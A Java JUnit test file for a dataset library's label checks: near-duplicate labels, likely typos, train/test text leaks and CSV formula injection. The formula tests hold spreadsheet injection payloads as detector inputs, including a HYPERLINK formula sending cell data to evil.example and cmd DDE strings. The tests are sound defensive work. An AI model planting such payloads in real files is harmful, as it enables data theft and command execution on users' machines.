package org.rnnlab.datasets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.rnnlab.datasets.text.TextDataset;

class LabelCheckTest {

    @TempDir
    Path dir;

    @Test
    void labelsThatReadAsOneAreGrouped() {
        String composed = "caf\u00e9";
        String decomposed = "cafe\u0301";
        List<List<String>> groups = LabelCheck.nearDuplicates(List.of(composed, decomposed, "walk", "walk\u00a0", "run\u200b", "run",
                "0", "0.0", "1", "10", "Pos", "pos", "a b", "ab", "sit  down", "sit down", "\ufeffneg", "neg"));
        assertThat(groups).containsExactlyInAnyOrder(List.of(composed, decomposed), List.of("walk", "walk\u00a0"),
                List.of("run\u200b", "run"), List.of("0", "0.0"), List.of("Pos", "pos"), List.of("sit  down", "sit down"),
                List.of("\ufeffneg", "neg"));
        assertThat(LabelCheck.nearDuplicates(List.of("1", "10", "1e", "e", "a", "b"))).isEmpty();
    }

    /**
     * An agronomist's trial: field staff wrote 'Krautfaeule' (24 sequences) beside 'Krautfäule' (463), a class of its own
     * that training did not warn of, while 'Gesund' and 'gesund' were. Umlauts and ß written out, accents, spaces at an end
     * and separators between words read as one too, and the warning says how they differ.
     */
    @Test
    void umlautsWrittenOutAccentsAndSeparatorsReadAsOneAndAreSaidSo() {
        List<List<String>> groups = LabelCheck.nearDuplicates(List.of("Krautfäule", "Krautfaeule", "Mehltau", "gesund", "Gesund",
                "Straße", "Strasse", "café", "cafe", "Piña", "Pina", "PE-LD", "PE LD", "pe_ld", " pe-hd", "pe-hd", "Blattnässe",
                "Blattnasse", "Blattnaesse"));
        assertThat(groups).containsExactlyInAnyOrder(List.of("Krautfäule", "Krautfaeule"), List.of("gesund", "Gesund"),
                List.of("Straße", "Strasse"), List.of("café", "cafe"), List.of("Piña", "Pina"), List.of("PE-LD", "PE LD", "pe_ld"),
                List.of(" pe-hd", "pe-hd"), List.of("Blattnässe", "Blattnasse", "Blattnaesse"));
        assertThat(LabelCheck.nearDuplicateWarning(List.of("Krautfaeule", "Krautfäule"), "training sequences: {'Krautfaeule'=24, "
                + "'Krautfäule'=463}")).isEqualTo("the labels 'Krautfaeule', 'Krautfäule' differ only by an umlaut written out (ä as ae) "
                + "and are separate classes (training sequences: {'Krautfaeule'=24, 'Krautfäule'=463}): if they are one class, write it one way");
        assertThat(LabelCheck.howTheyDiffer(List.of("Gesund", "gesund"))).isEqualTo("in case");
        assertThat(LabelCheck.howTheyDiffer(List.of("Straße", "Strasse"))).isEqualTo("by ß written out (ß as ss)");
        assertThat(LabelCheck.howTheyDiffer(List.of("café", "cafe"))).startsWith("in accents");
        assertThat(LabelCheck.howTheyDiffer(List.of("PE-LD", "PE LD", "pe_ld")))
                .isEqualTo("in case and in spaces, hyphens or underscores between words (or their absence)");
        assertThat(LabelCheck.howTheyDiffer(List.of(" pe-hd", "pe-hd"))).startsWith("in spaces (at an end");
        assertThat(LabelCheck.howTheyDiffer(List.of("cafe\u0301", "café"))).isEqualTo("in Unicode form");
        // not accents: Devanagari vowel signs and kana voicing marks make other words
        assertThat(LabelCheck.nearDuplicates(List.of("\u0915\u092E", "\u0915\u093E\u092E", "\u304B", "\u304C", "Mehltau",
                "Mehltaue"))).isEmpty();
        // a label of new data written so is named as the model's label, with how it differs
        assertThat(LabelCheck.readsAsOneOf("Krautfaeule", List.of("gesund", "Krautfäule")))
                .contains("reads as the label 'Krautfäule' written another way: 'Krautfaeule', 'Krautfäule' differ only by an umlaut "
                        + "written out (ä as ae)");
        assertThat(LabelCheck.readsAsOneOf("Krautfaule", List.of("gesund", "Krautfäule"))).contains("differ only in accents");
        assertThat(LabelCheck.readsAsWords("Gesund", List.of("gesund", "Krautfäule"))).isEqualTo(", reads as 'gesund' (in case)");
        assertThat(LabelCheck.readsAsWords("Mehltau", List.of("gesund", "Krautfäule"))).isEmpty();
    }

    /**
     * Turkish upper case reads as the Turkish label it is (a trial: 'IŞIK' got no hint for the model's 'ışık', and 'İNİŞ' was
     * said to differ from 'İniş' in accents too, from the dot U+0307 that lower-casing 'İ' by the root rules leaves), while
     * dotted and dotless i in lower case stay other letters.
     */
    @Test
    void turkishUpperCaseReadsAsTheLabelByTurkishCaseRules() {
        List<String> model = List.of("IDLE", "İniş", "ışık");
        String turkishCase = "in case (Turkish dotted and dotless i: İ/i, I/ı)";
        assertThat(LabelCheck.readsAsWords("IŞIK", model)).isEqualTo(", reads as 'ışık' (" + turkishCase + ")");
        assertThat(LabelCheck.readsAsWords("İNİŞ", model)).isEqualTo(", reads as 'İniş' (" + turkishCase + ")");
        assertThat(LabelCheck.readsAsOneOf("IŞIK", model)).contains("'IŞIK', 'ışık' differ only " + turkishCase + ";");
        assertThat(LabelCheck.readsAsWords("idle", model)).as("the root rules as before").isEqualTo(", reads as 'IDLE' (in case)");
        assertThat(LabelCheck.howTheyDiffer(List.of("ID", "id"))).isEqualTo("in case");
        // training data with both: one group, said so
        assertThat(LabelCheck.nearDuplicates(List.of("ışık", "IŞIK", "İniş", "İNİŞ", "IDLE")))
                .containsExactlyInAnyOrder(List.of("ışık", "IŞIK"), List.of("İniş", "İNİŞ"));
        assertThat(LabelCheck.howTheyDiffer(List.of("ışık", "IŞIK"))).isEqualTo(turkishCase);
        // lower-case ı and i are two letters (sık, sik): not one label in any case
        assertThat(LabelCheck.nearDuplicates(List.of("sık", "sik"))).isEmpty();
        assertThat(LabelCheck.readsAsWords("sık", List.of("sik"))).isEmpty();
    }

    /** The trial's training file: the warning names both spellings with their training sequences. */
    @Test
    void csvTrainingWarnsOfAnUmlautWrittenOut() throws Exception {
        StringBuilder b = new StringBuilder("sequence_id,time,x,label\n");
        for (int s = 0; s < 24; s++) {
            for (int t = 0; t < 3; t++) {
                b.append('s').append(s).append(',').append(t).append(',').append(s % 3 + t).append(',')
                        .append(s % 3 == 0 ? "gesund" : s % 8 == 1 ? "Krautfaeule" : "Krautfäule").append('\n');
            }
        }
        Path f = Files.writeString(dir.resolve("bonitur.csv"), b.toString());
        List<String> warnings = LoggedWarnings.of(org.rnnlab.datasets.csv.CsvSequenceDataset.class,
                () -> org.rnnlab.datasets.csv.CsvSequenceDataset.fromLongCsv(f, org.rnnlab.datasets.csv.CsvOptions.defaults()
                        .withFractions(0.0, 0.0)));
        assertThat(warnings).anySatisfy(w -> assertThat(w).contains("the labels 'Krautfaeule', 'Krautfäule' differ only by an umlaut "
                + "written out (ä as ae) and are separate classes (training sequences: {'Krautfaeule'=2, 'Krautfäule'=14})"));
    }

    /** OWASP's formula starts, without numbers: -1 (a UCR label) and +49... (a phone number as an id) are data, not formulas. */
    @Test
    void valuesASpreadsheetRunsAsFormulasAreRecognised() {
        for (String f : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
                "+SUM(1)", "-cmd", "+", "-", "=1+2+tr1", "@")) {
            assertThat(LabelCheck.looksLikeFormula(f)).as(f).isTrue();
        }
        for (String v : List.of("-1", "+1", "+49 30 1234567", "-0.5", "-.5", "+.5", "a=b", "walk", "", "1e3", "a@b")) {
            assertThat(LabelCheck.looksLikeFormula(v)).as(v).isFalse();
        }
        assertThat(LabelCheck.formulaWarning(List.of("-1", "1"), List.of("+4930", "s1"))).isEmpty();
        assertThat(LabelCheck.formulaWarning(List.of("=1+1", "ok"), List.of("s1", "+SUM(1)", "=a", "@b", "-c", "=d", "=e")))
                .hasValue("1 label(s) '=1+1' and 6 id(s) '+SUM(1)', '=a', '@b', '-c', '=d', ... start with =, @, + or - (not a "
                        + "number), which a spreadsheet runs as a formula: the CSV files rnnlab writes (predictions, splits.csv, "
                        + "per-class.csv) hold them as they are, so open those files in a spreadsheet only as text (import, not "
                        + "double-click), or rename these values");
    }

    /** Training warns once of labels and ids that are formulas, naming them; the values themselves are kept as written. */
    @Test
    void csvTrainingWarnsOfFormulaLabelsAndIds() throws Exception {
        Path f = dir.resolve("evil.csv");
        StringBuilder b = new StringBuilder("sequence_id,time,x,label\n");
        for (int s = 0; s < 12; s++) {
            for (int t = 0; t < 3; t++) {
                b.append(s == 0 ? "\"=cmd|' /C calc'!A0\"" : "s" + s).append(',').append(t).append(',').append(s % 2 + t)
                        .append(',').append(s % 2 == 0 ? "\"@SUM(1+1)\"" : "-1").append('\n');
            }
        }
        Files.writeString(f, b.toString());
        var options = org.rnnlab.datasets.csv.CsvOptions.defaults();
        List<String> warnings = LoggedWarnings.of(org.rnnlab.datasets.csv.CsvSequenceDataset.class, () -> {
            var d = org.rnnlab.datasets.csv.CsvSequenceDataset.fromLongCsv(f, options);
            assertThat(d.labelNames()).containsExactly("-1", "@SUM(1+1)");
        });
        assertThat(warnings.stream().filter(w -> w.contains("a spreadsheet runs as a formula")))
                .containsExactly("csv " + f + ": 1 label(s) '@SUM(1+1)' and 1 id(s) '=cmd|' /C calc'!A0' start with =, @, + or - (not a "
                        + "number), which a spreadsheet runs as a formula: the CSV files rnnlab writes (predictions, splits.csv, "
                        + "per-class.csv) hold them as they are, so open those files in a spreadsheet only as text (import, not "
                        + "double-click), or rename these values");
    }

    @Test
    void invisibleCharactersAreShownAsEscapes() {
        assertThat(LabelCheck.show(List.of("walk", "walk\u00a0", "run\u200b", "cafe\u0301"))).isEqualTo(
                "'walk', 'walk\\u00A0', 'run\\u200B', 'cafe\\u0301'");
    }

    @Test
    void textLabelsThatReadAsOneAreWarnedOf() throws Exception {
        Path f = dir.resolve("t.tsv");
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < 12; i++) {
            b.append(i % 3 == 0 ? "Pos" : i % 3 == 1 ? "pos" : "neg").append('\t').append("text number ").append(i).append(" here\n");
        }
        Files.writeString(f, b);
        List<String> warnings = LoggedWarnings.of(TextDataset.class, () -> TextDataset.fromTsv(f, null, null, TextDataset.Config.defaults()));
        assertThat(warnings).anySatisfy(w -> assertThat(w).contains("the labels 'Pos', 'pos' differ only in case")
                .contains("('Pos' on 4 line(s), first line 1, 'pos' on 4 line(s), first line 2)"));
    }

    @Test
    void repeatedTextsOfATrainingFileAreWarnedOfAndContradictingLabelsToo() throws Exception {
        // a user's try: each text twice, validation and test carved from the file: most test texts had a twin in training
        Path f = dir.resolve("dupes.tsv");
        StringBuilder b = new StringBuilder();
        for (int copy = 0; copy < 2; copy++) {
            for (int i = 0; i < 30; i++) {
                b.append(i % 2 == 0 ? "pos" : "neg").append('\t').append("text number ").append(i).append(" here\n");
            }
        }
        b.append("pos\ttext number 1 here\n"); // line 61: text of line 2 (neg) with another label
        Files.writeString(f, b);
        List<String> warnings = LoggedWarnings.of(TextDataset.class, () -> TextDataset.fromTsv(f, null, null, TextDataset.Config.defaults()));
        assertThat(warnings).anySatisfy(w -> assertThat(w).contains("30 texts occur more than once (31 repeats, e.g. lines 1 and 31)")
                .contains("carved from this file can hold a copy of a training text"));
        assertThat(warnings).anySatisfy(w -> assertThat(w).contains("1 texts occur with different labels (e.g. lines 2 and 32 and 61)"));
        // a test file repeating training texts: the first such line is named
        Path test = dir.resolve("test.tsv");
        Files.writeString(test, "neg\tsomething new\npos\ttext number 0 here\nneg\ttext number 3 here\n");
        List<String> given = LoggedWarnings.of(TextDataset.class, () -> TextDataset.fromTsv(f, null, test, TextDataset.Config.defaults()));
        assertThat(given).anySatisfy(w -> assertThat(w).contains("2 of 3 test texts also occur in the training file").contains("(the first at line 2 of"));
        // texts the model reads alike (case, spacing) are the same text to it: a user's try, upper-cased copies, went unwarned
        Path upper = dir.resolve("upper.tsv");
        Files.writeString(upper, "neg\tsomething new\npos\tTEXT Number 0   here\nneg\ttext  number 3 HERE\n");
        List<String> alike = LoggedWarnings.of(TextDataset.class, () -> TextDataset.fromTsv(f, null, upper, TextDataset.Config.defaults()));
        assertThat(alike).anySatisfy(w -> assertThat(w).contains("2 of 3 test texts also occur in the training file")
                .contains("(the first at line 2 of").contains("as written or as the model reads them"));
        // nothing carved (a test file, no validation fraction): repeats in the training file are no leak, not warned of as one
        List<String> none = LoggedWarnings.of(TextDataset.class, () -> TextDataset.fromTsv(f, null, test,
                TextDataset.Config.defaults().withFractions(0, TextDataset.Config.defaults().testFraction())));
        assertThat(none).noneSatisfy(w -> assertThat(w).contains("carved from this file"));
        // a validation file holding test texts is warned of, as for CSV ids
        Path validation = Files.writeString(dir.resolve("val.tsv"), "neg\tsomething NEW\npos\tquite other words\n");
        List<String> valTest = LoggedWarnings.of(TextDataset.class, () -> TextDataset.fromTsv(f, validation, test, TextDataset.Config.defaults()));
        assertThat(valTest).anySatisfy(w -> assertThat(w).contains("1 of 3 test texts also occur in the validation file")
                .contains("the validation data chose the epoch kept").doesNotContain("measure memory"));
    }

    @Test
    void anUnknownLabelIsMatchedToTheClosestKnownOneFirst() {
        // a user's 'praise' behind a byte order mark was said to read as 'Praise', the model's other (one-example) class
        List<String> known = List.of("Praise", "billing", "praise");
        assertThat(LabelCheck.readsAsOneOf("\uFEFFpraise", known)).contains("reads as the label 'praise'").doesNotContain("'Praise'");
        assertThat(LabelCheck.readsAsOneOf("PRAISE", known)).contains("reads as the label 'Praise'"); // by case: the first alike
        assertThat(LabelCheck.readsAsOneOf("refund", known)).isEmpty();
    }

    @Test
    void everyMessageShowsALabelsInvisibleCharactersAlike() throws Exception {
        // a user's try: "sequence 's2' has label 'normal' (expected 'normal ' ...)", the no-break space that made them two unseen
        assertThat(LabelCheck.quoted("normal\u00a0")).isEqualTo("'normal\\u00A0'");
        assertThat(LabelCheck.quoted("a\u2028b\u0007")).isEqualTo("'a\\u2028b\\u0007'");
        assertThat(LabelCheck.listed(List.of("normal", "normal\u00a0", "a, b"))).isEqualTo("[normal, normal\\u00A0, \"a, b\"]");
        Path f = Files.writeString(dir.resolve("nbsp.csv"), "sequence_id,time,x,label\ns2,0,1,normal\u00a0\ns2,1,2,normal\n");
        assertThatThrownBy(() -> org.rnnlab.datasets.csv.CsvSequenceDataset.fromLongCsv(f, org.rnnlab.datasets.csv.CsvOptions.defaults()))
                .hasMessageContaining("nbsp.csv:3: sequence 's2' has label 'normal' (expected 'normal\\u00A0' as on its first row, line 2)")
                .hasMessageNotContaining("label per time step");
    }
    @Test
    void hyphensSpacesAndUnderscoresBetweenWordsReadAsOne() {
        assertThat(LabelCheck.nearDuplicates(java.util.List.of("new-launch", "new launch", "new_launch", "smooth")))
                .containsExactly(java.util.List.of("new-launch", "new launch", "new_launch"));
        assertThat(LabelCheck.nearDuplicates(java.util.List.of("-1", "1"))).isEmpty();
        // a separator or none: an ECG trial's A-fib beside AFib and afib trained as classes of their own
        assertThat(LabelCheck.nearDuplicates(java.util.List.of("A-fib", "AFib", "afib", "AF", "normal")))
                .containsExactly(java.util.List.of("A-fib", "AFib", "afib"));
        // one-letter codes in words stay other classes for the typo rule (type a, type b), separators or not
        java.util.Map<String, Long> codes = new java.util.LinkedHashMap<>();
        codes.put("type a", 100L);
        codes.put("type b", 2L);
        assertThat(LabelCheck.likelyTypos(codes)).isEmpty();
    }

    @Test
    void aRareLabelOneLetterFromACommonOneIsALikelyTypo() {
        java.util.Map<String, Long> counts = new java.util.LinkedHashMap<>();
        counts.put("squat", 130L);
        counts.put("sqaut", 2L); // swapped
        counts.put("intermittent", 60L);
        counts.put("intermitent", 3L); // a letter less
        counts.put("jump", 90L);
        counts.put("jumps", 2L); // under 5 letters: "jump" is too short to judge
        counts.put("lunge", 40L);
        counts.put("lunges", 30L); // both common: two classes
        counts.put("stop", 59L);
        counts.put("stpo", 1L); // 4 letters, two neighbours swapped: a keyword trial's typo
        counts.put("walk", 80L);
        counts.put("wall", 2L); // 4 letters, one changed: often another word, not judged
        assertThat(LabelCheck.likelyTypos(counts)).containsExactly("'sqaut' (2) is one letter from 'squat' (130)",
                "'intermitent' (3) is one letter from 'intermittent' (60)", "'stpo' (1) is one letter from 'stop' (59)");
        // codes, not typos: a digit or a one-letter word differs (a review)
        java.util.Map<String, Long> codes = new java.util.LinkedHashMap<>();
        codes.put("fault1", 100L);
        codes.put("fault2", 3L);
        codes.put("class1", 100L);
        codes.put("class10", 2L);
        codes.put("type_a", 100L);
        codes.put("type_b", 4L);
        codes.put("stage2", 50L);
        codes.put("stage3", 5L);
        assertThat(LabelCheck.likelyTypos(codes)).isEmpty();
        assertThat(LabelCheck.oneEditApart("abcde", "abdce")).isTrue();
        assertThat(LabelCheck.oneEditApart("abcde", "abcdef")).isTrue();
        assertThat(LabelCheck.oneEditApart("abcde", "axcye")).isFalse();
        assertThat(LabelCheck.oneEditApart("abcde", "abcde")).isFalse();
    }

    @org.junit.jupiter.api.Test
    void decomposedLabelsGetTheLineThatComposesThem() {
        // trial 81a F8: 'Sto\u0308rung' (NFD, as macOS tools write) was named, with only a label map as the way out
        java.util.List<String> model = java.util.List.of("normal", "St\u00f6rung", "\u00dcberlast");
        org.assertj.core.api.Assertions.assertThat(LabelCheck.composeHint(java.util.List.of("Sto\u0308rung", "U\u0308berlast"), model,
                "Klasse")).isEqualTo("; labels written in another Unicode form (a letter and its accent as two characters, as "
                + "macOS tools write them) are composed with pandas: df['Klasse'] = df['Klasse'].str.normalize('NFC'), or the "
                + "whole file with uconv -x NFC");
        org.assertj.core.api.Assertions.assertThat(LabelCheck.composeHint(java.util.List.of("st\u00f6rung", "turbo"), model, "Klasse"))
                .isEmpty(); // another case, another label: no such line
    }
}
